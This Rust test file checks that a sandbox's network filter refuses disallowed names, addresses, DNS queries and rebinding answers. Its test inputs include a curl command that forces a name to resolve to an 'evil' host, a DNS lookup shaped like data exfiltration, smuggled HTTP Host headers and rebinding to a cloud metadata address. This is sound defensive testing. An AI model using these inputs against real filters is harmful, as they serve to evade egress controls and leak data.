//! Attacks on names: what is asked for and where it really goes (cases 1-3, 5, 13, 19, 21, 24-26, 28, 32, 36-38).

use std::net::IpAddr;

use harness::{
    probe::{self, Outcome, with},
    sandbox::Sandbox,
    world::{API, EVIL, OK, OTHER_RESOLVER, RESOLVER, WILD},
};
use hickory_proto::rr::RecordType;
use serde_json::{Value, json};

use crate::machine::Machine;

/// The record of a denial has one of these reasons.
#[track_caller]
pub(crate) fn denied_because(sandbox: &Sandbox, fields: &Value, reasons: &[&str]) {
    let mut fields = fields.clone();
    fields["decision"] = json!("deny");
    let event = sandbox.audited(&fields);
    let reason = event["reason"].as_str().unwrap_or("none");
    assert!(
        reasons.contains(&reason),
        "denied because of `{reason}`, not {reasons:?}: {event}"
    );
}

/// New connections from the node to an address since a mark.
#[track_caller]
pub(crate) fn assert_no_connection(machine: &Machine, to: impl Into<IpAddr>, mark: harness::capture::Mark) {
    let packets = machine.world.capture().sent_to(to, mark);
    assert!(
        !packets.iter().any(|packet| packet.opens),
        "a connection was opened: {packets:#?}"
    );
}

/// Resolves a name, so that its addresses are pinned for the sandbox.
#[track_caller]
fn pin(probe: &probe::Probe<'_>, name: &str, expected: impl Into<IpAddr>) {
    assert_eq!(
        probe.try_one(&probe::lookup(name)).addresses,
        [expected.into()],
        "{name}"
    );
}

pub(crate) fn allowed_names_pass(machine: &Machine) {
    let sandbox = machine.fenced();
    let probe = machine.probe(&sandbox);
    let mark = machine.world.capture().mark();
    for (name, address) in [
        ("ok.test", OK),
        ("alias.test", OK),
        ("api.test", API),
        ("deep.down.wild.test", WILD),
        ("OK.Test", OK),
    ] {
        let attempt = probe::https(name, name);
        probe.try_one(&attempt).assert_answered(&format!("at {address}"));
        machine.world.capture().assert_something_to(address, mark);
    }
    // The final dot belongs to the name, not to what TLS sends.
    probe
        .try_one(&with(probe::https("ok.test.", "ok.test"), json!({})))
        .assert_answered("hello from ok.test");
    // A greeting as large as today's browsers send comes in several packets.
    let large = with(probe::https("ok.test", "ok.test"), json!({ "bloat": 200 }));
    probe.try_one(&large).assert_answered("hello from ok.test");
    let crumbs = with(probe::https("ok.test", "ok.test"), json!({ "crumbs": 50 }));
    probe.try_one(&crumbs).assert_answered("hello from ok.test");
    probe
        .try_one(&with(
            probe::https("ok.test", "ok.test"),
            json!({ "path": "/bytes/3000000" }),
        ))
        .assert_answered("xxxx");
    let visits = machine.world.web.visits_for("ok.test");
    assert!(
        visits
            .iter()
            .all(|visit| visit.sni.as_deref() == Some("ok.test") && visit.handshake),
        "{visits:?}"
    );
    let event = sandbox.audited(&json!({ "decision": "allow", "host": "api.test" }));
    let expected = json!({ "reason": "allowed", "ip": API.to_string(), "port": 443, "protocol": "tls", "tier": "sandbox" });
    for (field, value) in expected.as_object().expect("an object") {
        assert_eq!(&event[field], value, "{field} of {event}");
    }
    assert!(
        event["bytes_up"].as_u64() > Some(0) && event["bytes_down"].as_u64() > Some(0),
        "{event}"
    );
    assert!(
        event["id"].is_string()
            && event["timestamp"].is_string()
            && event["org_id"] == machine.organization.id,
        "{event}"
    );
    sandbox.stop();
}

pub(crate) fn names_that_only_look_allowed_do_not_pass(machine: &Machine) {
    let sandbox = machine.fenced();
    let probe = machine.probe(&sandbox);
    let names = [
        "wild.test",
        "xwild.test",
        "wild.test.evil.test",
        "ok.test.evil.test",
        "evil.test",
        "notok.test",
        "www.ok.test",
    ];
    let mark = machine.world.capture().mark();
    for name in names {
        let outcome = probe.try_one(&probe::https(name, name));
        assert_eq!(outcome.outcome, "no_name", "{name}: {outcome:?}");
        outcome.assert_at_once();
        let asked = machine.world.dns.queries().iter().any(|query| query.name == name);
        assert!(!asked, "{name} was asked upstream");
    }
    machine.world.capture().assert_nothing_to(EVIL, mark);
    assert_no_connection(machine, WILD, mark);
    denied_because(
        &sandbox,
        &json!({ "host": "xwild.test", "protocol": "dns" }),
        &["dns_refused"],
    );
    sandbox.stop();
}

pub(crate) fn a_wrong_name_towards_a_pinned_address_is_refused(machine: &Machine) {
    let sandbox = machine.fenced();
    let probe = machine.probe(&sandbox);
    pin(&probe, "ok.test", OK);
    pin(&probe, "api.test", API);
    let visits = machine.world.web.visits().len();
    let mark = machine.world.capture().mark();
    let wrong = [
        "evil.test",
        "tenant.test",
        "ok.test.evil.test",
        "xn--ok-test",
        "*.wild.test",
        "ok_test",
    ];
    for name in wrong {
        probe
            .try_one(&with(probe::https(OK, name), json!({ "unverified": true })))
            .assert_refused();
        denied_because(
            &sandbox,
            &json!({ "ip": OK.to_string(), "host": name }),
            &["name_denied", "default_deny", "malformed"],
        );
    }
    // Allowed, but this is the address of another allowed name.
    probe
        .try_one(&with(probe::https(OK, "api.test"), json!({ "unverified": true })))
        .assert_refused();
    denied_because(
        &sandbox,
        &json!({ "ip": OK.to_string(), "host": "api.test" }),
        &["address_not_bound"],
    );
    assert_no_connection(machine, OK, mark);
    assert_eq!(machine.world.web.visits().len(), visits, "a server was reached");
    assert!(
        machine.world.dns.queries_for("evil.test").is_empty(),
        "a denied connection was resolved"
    );
    probe
        .try_one(&probe::https(OK, "ok.test"))
        .assert_answered("hello from ok.test");
    sandbox.stop();
}

pub(crate) fn an_address_nobody_resolved_is_refused_whatever_name_is_sent(machine: &Machine) {
    let sandbox = machine.fenced();
    let probe = machine.probe(&sandbox);
    let mark = machine.world.capture().mark_at_rest();
    for target in [EVIL, OK] {
        probe
            .try_one(&with(
                probe::https(target, "ok.test"),
                json!({ "unverified": true }),
            ))
            .assert_refused_at_connect();
        denied_because(
            &sandbox,
            &json!({ "ip": target.to_string(), "port": 443 }),
            &["address_not_bound"],
        );
    }
    // The client's own idea of a name opens nothing either.
    let curl = format!("curl -sSk --max-time 30 --resolve ok.test:443:{EVIL} https://ok.test/");
    let output = sandbox.sh(&curl);
    assert_eq!(output.exit_code, 7, "{output:?}");
    assert!(output.took < probe::AT_ONCE, "{:?}", output.took);
    machine.world.capture().assert_nothing_to(EVIL, mark);
    machine.world.capture().assert_nothing_to(OK, mark);
    pin(&probe, "ok.test", OK);
    probe
        .try_one(&probe::https(OK, "ok.test"))
        .assert_answered("hello from ok.test");
    // What one sandbox has resolved opens nothing for another.
    let other = machine.fenced();
    machine
        .probe(&other)
        .try_one(&probe::https(OK, "ok.test"))
        .assert_refused_at_connect();
    other.stop();
    sandbox.stop();
}

pub(crate) fn a_client_hello_without_name_is_refused(machine: &Machine) {
    let sandbox = machine.fenced();
    let probe = machine.probe(&sandbox);
    pin(&probe, "ok.test", OK);
    let mark = machine.world.capture().mark();
    probe.try_one(&probe::https_without_sni(OK)).assert_refused();
    denied_because(
        &sandbox,
        &json!({ "ip": OK.to_string(), "port": 443 }),
        &["no_name"],
    );
    probe
        .try_one(&probe::https_without_sni(EVIL))
        .assert_refused_at_connect();
    machine.world.capture().assert_nothing_to(EVIL, mark);
    assert_no_connection(machine, OK, mark);
    // A rule for the address needs no name.
    sandbox.set_network(&json!({ "mode": "allowlist", "allowed_cidrs": [format!("{OK}/32")] }));
    probe
        .try_one(&probe::https_without_sni(OK))
        .assert_answered("at 203.0.113.10");
    sandbox.stop();
}

pub(crate) fn junk_and_silence_on_443_are_refused(machine: &Machine) {
    let sandbox = machine.fenced();
    let probe = machine.probe(&sandbox);
    pin(&probe, "ok.test", OK);
    let mark = machine.world.capture().mark();
    let junk = [
        "SSH-2.0-x\r\n",
        "\u{16}\u{3}\u{1}\u{0}\u{5}hello",
        "CONNECT evil.test:443 HTTP/1.1\r\nHost: ok.test\r\n\r\n",
    ];
    for send in junk {
        probe.try_one(&probe::tcp(OK, 443, send)).assert_refused();
    }
    denied_because(
        &sandbox,
        &json!({ "ip": OK.to_string(), "port": 443 }),
        &["malformed"],
    );
    let overflow = probe::tcp(OK, 443, &format!("GET / HTTP/1.1\r\nX: {}", "x".repeat(20_000)));
    probe.try_one(&overflow).assert_refused();
    // Saying nothing ends after the sniffer's patience, not with a connection to the server.
    let silence = probe.try_one(&with(probe::tcp(OK, 443, ""), json!({ "timeout": 40.0 })));
    assert!(
        ["closed", "reset"].contains(&silence.outcome.as_str()),
        "{silence:?}"
    );
    assert_no_connection(machine, OK, mark);
    sandbox.stop();
}

pub(crate) fn plain_http_is_judged_by_its_host(machine: &Machine) {
    let sandbox = machine.fenced();
    let probe = machine.probe(&sandbox);
    pin(&probe, "plain.test", API);
    let before = machine.world.web.visits().len();
    let mark = machine.world.capture().mark();
    let requests = [
        "GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        "GET http://evil.test/ HTTP/1.1\r\nHost: plain.test\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: plain.test\r\nHost: evil.test\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: plain.test:80@evil.test\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: plain.test#evil\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: plain.test\tevil\r\n\r\n",
        "GET / HTTP/1.1\r\nHost:\r\n\r\n",
        "GET / HTTP/1.1\r\n\r\n",
        "GET / HTTP/1.0\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: ok.test\r\n\r\n",
    ];
    for request in requests {
        // Refused by an answer or by closing: no server is asked either way.
        let outcome = probe.try_one(&probe::tcp(API, 80, request));
        assert!(!outcome.data.contains("hello from"), "{request:?}: {outcome:?}");
        outcome.assert_at_once();
    }
    assert_no_connection(machine, API, mark);
    assert_eq!(machine.world.web.visits().len(), before, "a server was reached");
    probe
        .try_one(&probe::http("plain.test", "plain.test"))
        .assert_answered("hello from plain.test");
    // Each request of a connection is judged, not only its first.
    let pipelined =
        "GET / HTTP/1.1\r\nHost: plain.test\r\n\r\nGET /second HTTP/1.1\r\nHost: evil.test\r\n\r\n";
    let outcome = probe.try_one(&probe::tcp(API, 80, pipelined));
    assert!(!outcome.data.contains("hello from evil.test"), "{outcome:?}");
    assert!(
        machine.world.web.visits_for("evil.test").is_empty(),
        "the second request was not judged"
    );
    sandbox.stop();
}

pub(crate) fn denied_names_are_never_asked_upstream(machine: &Machine) {
    let sandbox = machine.fenced();
    let probe = machine.probe(&sandbox);
    let (asked, mark) = (machine.world.dns.queries().len(), machine.world.capture().mark());
    let outcome = probe.try_one(&probe::lookup("secret-data.evil.test"));
    assert_eq!(outcome.outcome, "no_name", "{outcome:?}");
    outcome.assert_at_once();
    for tcp in [false, true] {
        let attempt = with(
            probe::dns("169.254.1.1", "secret-data.evil.test"),
            json!({ "tcp": tcp }),
        );
        let outcome = probe.try_one(&attempt);
        assert_eq!(outcome.rcode, Some(5), "REFUSED: {outcome:?}");
        outcome.assert_at_once();
    }
    denied_because(
        &sandbox,
        &json!({ "host": "secret-data.evil.test", "protocol": "dns" }),
        &["dns_refused"],
    );
    assert_eq!(
        machine.world.dns.queries().len(),
        asked,
        "a denied name was asked upstream"
    );
    let leaked = machine.world.capture().sent_since(mark);
    assert!(
        !leaked
            .iter()
            .any(|packet| packet.payload.windows(11).any(|part| part == b"secret-data")),
        "{leaked:#?}"
    );
    pin(&probe, "ok.test", OK);
    sandbox.stop();
}

pub(crate) fn queries_to_other_resolvers_end_at_our_own(machine: &Machine) {
    let sandbox = machine.fenced();
    let probe = machine.probe(&sandbox);
    let mark = machine.world.capture().mark();
    let everywhere: [IpAddr; 4] = [
        OTHER_RESOLVER.into(),
        EVIL.into(),
        RESOLVER.into(),
        [10, 0, 0, 5].into(),
    ];
    for server in everywhere {
        for tcp in [false, true] {
            let ask = |name| probe.try_one(&with(probe::dns(server, name), json!({ "tcp": tcp })));
            let allowed = ask("ok.test");
            assert_eq!(
                (allowed.rcode, allowed.addresses.as_slice()),
                (Some(0), [OK.into()].as_slice()),
                "{server}: {allowed:?}"
            );
            assert_eq!(ask("evil.test").rcode, Some(5), "{server}");
        }
    }
    for port in [853, 5353] {
        let tcp = with(
            probe::dns(EVIL, "evil.test"),
            json!({ "tcp": true, "port": port }),
        );
        probe.try_one(&tcp).assert_refused_at_connect();
        let udp = with(probe::dns(EVIL, "evil.test"), json!({ "port": port }));
        probe.try_one(&udp).assert_refused();
    }
    machine.world.capture().assert_nothing_to(OTHER_RESOLVER, mark);
    machine.world.capture().assert_nothing_to(EVIL, mark);
    machine.world.capture().assert_nothing_to([10, 0, 0, 5], mark);
    assert!(machine.world.dns.queries_for("evil.test").is_empty());
    // A name that no cache knows is asked upstream, wherever the question was sent.
    let fresh = probe.try_one(&probe::dns(OTHER_RESOLVER, "asked-elsewhere.wild.test"));
    assert_eq!(fresh.addresses, [IpAddr::from(WILD)], "{fresh:?}");
    machine.world.capture().assert_something_to(RESOLVER, mark);
    machine.world.capture().assert_nothing_to(OTHER_RESOLVER, mark);
    sandbox.stop();
}

pub(crate) fn only_addresses_are_asked_for(machine: &Machine) {
    let sandbox = machine.fenced();
    let probe = machine.probe(&sandbox);
    let name = "types.wild.test";
    for kind in [5, 10, 12, 15, 16, 33, 64, 65, 255, 65_280] {
        let outcome = probe.try_one(&with(probe::dns(RESOLVER, name), json!({ "type": kind })));
        assert!(
            outcome.addresses.is_empty() && outcome.data.is_empty(),
            "type {kind}: {outcome:?}"
        );
        outcome.assert_at_once();
    }
    let chaos = probe.try_one(&with(
        probe::dns(RESOLVER, "version.wild.test"),
        json!({ "type": 16, "class": 3 }),
    ));
    assert_ne!(chaos.rcode, Some(0), "{chaos:?}");
    assert_eq!(
        probe.try_one(&probe::dns(RESOLVER, name)).addresses,
        [IpAddr::from(WILD)]
    );
    let kinds: Vec<_> = machine
        .world
        .dns
        .queries_for("wild.test")
        .into_iter()
        .map(|query| query.kind)
        .collect();
    assert!(
        kinds
            .iter()
            .all(|kind| matches!(kind, RecordType::A | RecordType::AAAA)),
        "asked upstream: {kinds:?}"
    );
    denied_because(
        &sandbox,
        &json!({ "host": name, "protocol": "dns" }),
        &["dns_type"],
    );
    sandbox.stop();
}

pub(crate) fn private_answers_are_stripped(machine: &Machine) {
    let sandbox = machine.fenced();
    let probe = machine.probe(&sandbox);
    let mark = machine.world.capture().mark();
    for name in ["rebind.test", "trap.test"] {
        // The world's own idea is what an attacker would answer.
        if name == "trap.test" {
            machine
                .world
                .dns
                .set(name, harness::dns::Answer::Alias("inside.test".to_owned()));
        }
        let outcome = probe.try_one(&probe::https(name, name));
        assert_eq!(outcome.outcome, "no_name", "{name}: {outcome:?}");
        denied_because(&sandbox, &json!({ "host": name }), &["dns_rebinding"]);
    }
    let Outcome { addresses, .. } = probe.try_one(&probe::lookup("half-rebind.test"));
    assert_eq!(addresses, [IpAddr::from(OK)], "only the public address is left");
    probe
        .try_one(&probe::https("half-rebind.test", "half-rebind.test"))
        .assert_answered("hello from half-rebind.test");
    // An answer that changes to a private address is judged anew.
    machine.world.dns.set(
        "flip.wild.test",
        harness::dns::Answer::Addresses(vec![WILD.into()]),
    );
    pin(&probe, "flip.wild.test", WILD);
    machine.world.dns.set(
        "flip.wild.test",
        harness::dns::Answer::Addresses(vec![[169, 254, 169, 254].into()]),
    );
    harness::wait::until("the short answer is forgotten", probe::AT_ONCE * 30, || {
        (probe.try_one(&probe::lookup("flip.wild.test")).outcome == "no_name").then_some(())
    });
    machine.world.capture().assert_nothing_to([10, 0, 0, 5], mark);
    machine
        .world
        .capture()
        .assert_nothing_to([169, 254, 169, 254], mark);
    sandbox.stop();
}

pub(crate) fn long_answers_are_cut_and_come_by_tcp(machine: &Machine) {
    let sandbox = machine.fenced();
    let probe = machine.probe(&sandbox);
    let cut = probe.try_one(&probe::dns(RESOLVER, "many.test"));
    assert!(cut.truncated, "{cut:?}");
    let whole = probe.try_one(&with(probe::dns(RESOLVER, "many.test"), json!({ "tcp": true })));
    assert_eq!((whole.addresses.len(), whole.truncated), (60, false), "{whole:?}");
    assert_eq!(probe.try_one(&probe::lookup("many.test")).addresses.len(), 60);
    // A chain without end is no answer, and no endless search either.
    let endless = probe.try_one(&probe::dns(RESOLVER, "loop.test"));
    assert!(endless.addresses.is_empty(), "{endless:?}");
    assert_eq!(endless.outcome, "answered", "{endless:?}");
    sandbox.stop();
}
